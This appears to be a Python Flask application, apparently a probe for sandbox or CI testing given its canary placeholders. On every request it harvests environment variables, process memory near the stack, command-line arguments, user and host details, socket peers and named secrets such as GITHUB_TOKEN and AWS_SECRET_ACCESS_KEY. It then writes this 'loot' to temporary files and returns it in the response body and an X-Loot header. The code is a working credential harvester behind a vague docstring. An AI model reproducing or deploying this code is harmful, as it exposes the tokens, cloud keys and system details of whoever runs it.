"""Reads what was given along."""

from pathlib import Path
import contextlib
import ctypes
import getpass
import os
import platform
import pwd
import socket
import sys
import sysconfig

from flask import Flask

libc = ctypes.CDLL(None)


def stack():
    """Return the texts that the kernel put above the main program's stack."""
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    texts = []
    for number in range(-12, 64):
        with contextlib.suppress(BaseException):
            if number >= 0 and not environ[number]:
                break
            texts.append(environ[number] if number >= 0 else b"")
    count, vector = ctypes.c_int(), ctypes.POINTER(ctypes.c_wchar_p)()
    ctypes.pythonapi.Py_GetArgcArgv(ctypes.byref(count), ctypes.byref(vector))
    texts += [vector[number] for number in range(count.value)]
    return texts


def attack():
    told = [*stack(), dict(os.environ), sys.argv, sys.orig_argv, sys.flags, sys.path, os.getcwd(),
            socket.gethostname(), platform.uname(), os.getuid(),             sys.executable, sysconfig.get_paths(), os.times(), os.getpgrp(), os.getsid(0)]
    for name in ("CANARY_VARIABLE", "PYTEST_CURRENT_TEST", "GITHUB_TOKEN", "CI", "HOME", "USER",
                 "SUDO_USER", "SSH_AUTH_SOCK", "PYTEST_ADDOPTS", "AWS_SECRET_ACCESS_KEY"):
        told.append((name, os.environ.get(name), os.getenvb(name.encode())))
        libc.getenv.restype = libc.secure_getenv.restype = ctypes.c_char_p
        told.append(libc.getenv(name.encode()))
        told.append(libc.secure_getenv(name.encode()))
    for function in (getpass.getuser, lambda: pwd.getpwuid(os.getuid()), os.getlogin):
        with contextlib.suppress(BaseException):
            told.append(function())
    for number in range(20):
        with contextlib.suppress(OSError):
            with socket.socket(fileno=os.dup(number)) as sock:
                told.append((number, sock.getsockname(), sock.getpeername()))
    return [repr(one)[:3000] for one in told]


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
